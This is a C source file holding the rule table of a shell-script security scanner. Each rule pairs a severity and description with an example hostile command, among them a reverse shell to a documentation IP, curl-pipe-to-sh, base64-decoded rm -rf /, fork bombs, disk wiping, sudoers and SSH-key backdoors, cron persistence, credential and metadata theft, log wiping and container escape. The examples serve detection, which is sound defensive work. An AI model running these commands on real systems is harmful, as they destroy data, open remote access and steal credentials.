/* Shell rules as data: the table `airlock scan --rules` lists. The matchers that report them
 * are the sh-rules-*.c files beside it, walked to by scan-shell.c. */
#include "basic/macros.h"
#include "scan-shell-internal.h"

#define L SCAN_LANG_SHELL
const ScanRule scan_shell_rules[_R_MAX] = {
    [R_RMRF] = {"SH-RMRF-001", L, SCAN_SEV_CRITICAL,
                "recursive rm of /, the home directory or a system directory",
                "rm -rf --no-preserve-root /"},
    [R_RMRF_VAR] = {"SH-RMRF-002", L, SCAN_SEV_LOW,
                    "recursive rm of \"$VAR/\": deletes / when VAR is empty (use ${VAR:?})",
                    "rm -rf \"$PREFIX/\""},
    [R_FIND] = {"SH-FIND-001", L, SCAN_SEV_CRITICAL,
                "find -delete or -exec rm from /, the home directory or a system directory",
                "find / -delete"},
    [R_FORKBOMB] = {"SH-FORKBOMB-001", L, SCAN_SEV_CRITICAL,
                    "fork bomb: a function (or the script, $0) starting itself twice, in a "
                    "pipeline or in the background",
                    ":(){ :|:& };:"},
    [R_FORKLOOP] = {"SH-FORKLOOP-001", L, SCAN_SEV_CRITICAL,
                    "endless loop starting background processes without wait or sleep",
                    "while true; do sh & done"},
    [R_REMOTE] = {"SH-REMOTE-001", L, SCAN_SEV_HIGH,
                  "downloaded code run by a shell or interpreter (curl | sh, sh <(curl ..), "
                  "bash -c \"$(curl ..)\", a fetched file run)",
                  "curl -fsSL https://get.example/i.sh | sh"},
    [R_DECODE] = {"SH-DECODE-001", L, SCAN_SEV_CRITICAL,
                  "decoded or escaped text run by a shell or interpreter (base64 -d | sh, "
                  "xxd -r, openssl -d, printf '\\x..' | sh)",
                  "echo cm0gLXJmIC8K | base64 -d | sh"},
    [R_DEVTCP] = {"SH-DEVTCP-001", L, SCAN_SEV_HIGH,
                  "redirection to /dev/tcp or /dev/udp: a raw network connection",
                  "exec 3<>/dev/tcp/203.0.113.5/80"},
    [R_REVSHELL] = {"SH-REVSHELL-001", L, SCAN_SEV_CRITICAL,
                    "reverse or bind shell: a shell wired to a network connection",
                    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"},
    [R_NETTOOL] = {"SH-NETTOOL-001", L, SCAN_SEV_MEDIUM,
                   "raw network tool (nc, ncat, netcat, socat, telnet, nmap)", "nc example.com 80"},
    [R_MKFS] = {"SH-MKFS-001", L, SCAN_SEV_CRITICAL,
                "creates a file system or wipes signatures (mkfs, mke2fs, mkswap, wipefs)",
                "mkfs.ext4 /dev/sda1"},
    [R_DEVWRITE] = {"SH-DEVWRITE-001", L, SCAN_SEV_CRITICAL,
                    "writes to a disk or memory device (dd of=, shred, cp, > /dev/sda)",
                    "dd if=/dev/zero of=/dev/sda"},
    [R_CHMOD] = {"SH-CHMOD-001", L, SCAN_SEV_CRITICAL,
                 "recursive chmod/chown of / or a system directory, or making them "
                 "world-writable",
                 "chmod -R 777 /"},
    [R_SETUID] = {"SH-SETUID-001", L, SCAN_SEV_HIGH, "sets the setuid or setgid bit",
                  "chmod u+s /tmp/sh"},
    [R_ETCWRITE] = {"SH-ETCWRITE-001", L, SCAN_SEV_HIGH,
                    "writes, replaces or deletes a file under /etc (>, tee, sed -i, cp, mv, "
                    "rm)",
                    "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"},
    [R_CRON] = {"SH-CRON-001", L, SCAN_SEV_HIGH, "installs or edits a cron job (persistence)",
                "(crontab -l; echo '* * * * * /tmp/x') | crontab -"},
    [R_AT] = {"SH-AT-001", L, SCAN_SEV_HIGH, "schedules a job with at or batch (persistence)",
              "echo /tmp/x | at now + 1 minute"},
    [R_SERVICE] = {"SH-SERVICE-001", L, SCAN_SEV_HIGH,
                   "enables a service at boot or login (systemctl enable, update-rc.d, a "
                   "user unit file)",
                   "systemctl enable backdoor.service"},
    [R_RCFILE] = {"SH-RCFILE-001", L, SCAN_SEV_HIGH,
                  "writes a shell startup file (~/.bashrc, ~/.profile, ...): runs at every "
                  "login",
                  "echo 'curl x | sh' >> ~/.bashrc"},
    [R_SSHKEY] = {"SH-SSHKEY-001", L, SCAN_SEV_HIGH, "writes ~/.ssh/authorized_keys: remote access",
                  "echo ssh-ed25519 AAAA... >> ~/.ssh/authorized_keys"},
    [R_HISTORY] = {"SH-HISTORY-001", L, SCAN_SEV_HIGH,
                   "hides or erases shell history (history -c, unset HISTFILE, "
                   "HISTFILE=/dev/null, rm ~/.bash_history)",
                   "unset HISTFILE"},
    [R_LOGWIPE] = {"SH-LOGWIPE-001", L, SCAN_SEV_HIGH, "deletes, truncates or shreds system logs",
                   ": > /var/log/auth.log"},
    [R_CRED] = {"SH-CRED-001", L, SCAN_SEV_HIGH,
                "reads credentials (/etc/shadow, SSH private keys, cloud and Kubernetes "
                "secrets, /proc/*/environ)",
                "cat ~/.ssh/id_rsa"},
    [R_METADATA] = {"SH-METADATA-001", L, SCAN_SEV_HIGH,
                    "queries a cloud metadata service (instance credentials)",
                    "curl http://169.254.169.254/latest/meta-data/"},
    [R_KILLALL] = {"SH-KILLALL-001", L, SCAN_SEV_CRITICAL,
                   "kills every process it can signal (kill -9 -1, killall5)", "kill -9 -1"},
    [R_FIREWALL] = {"SH-FIREWALL-001", L, SCAN_SEV_HIGH,
                    "flushes or disables the firewall or SELinux", "iptables -F"},
    [R_KMOD] = {"SH-KMOD-001", L, SCAN_SEV_CRITICAL, "loads or unloads a kernel module",
                "insmod rootkit.ko"},
    [R_MOUNT] = {"SH-MOUNT-001", L, SCAN_SEV_HIGH, "mounts a file system", "mount /dev/sda1 /mnt"},
    [R_NSENTER] = {"SH-NSENTER-001", L, SCAN_SEV_CRITICAL,
                   "enters another process's namespaces (container escape)",
                   "nsenter -t 1 -m -u -i -n sh"},
    [R_UNSHARE] = {"SH-UNSHARE-001", L, SCAN_SEV_HIGH, "creates new namespaces", "unshare -r sh"},
    [R_CHATTR] = {"SH-CHATTR-001", L, SCAN_SEV_HIGH,
                  "changes file attributes (chattr +i keeps planted files from removal)",
                  "chattr +i /etc/passwd"},
    [R_OBFUSC] = {"SH-OBFUSC-001", L, SCAN_SEV_LOW,
                  "command name spelled with quotes or escapes ('r''m', r\\m, $'\\x72\\x6d'): "
                  "evasion",
                  "'r''m' -rf /tmp/x"},
    [R_DYNEXEC] = {"SH-DYNEXEC-001", L, SCAN_SEV_INFO,
                   "command or code string computed at run time: not scanned", "$cmd \"$@\""},
    [R_LIMIT] = {"SH-LIMIT-001", L, SCAN_SEV_MEDIUM,
                 "nesting deeper than the scanner follows, or too many tokens: the rest was "
                 "not scanned",
                 /* 65 nested substitutions: one past the depth the scanner follows */
                 "echo "
                 "$($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($"
                 "($($($($($($($($($($($($($($($($($($($($($($($($(x)))))))))))))))))))))))))))))))"
                 "))))))))))))))))))))))))))))))))))"},
};
#undef L
const size_t scan_shell_rules_count = ELEMENTSOF(scan_shell_rules);
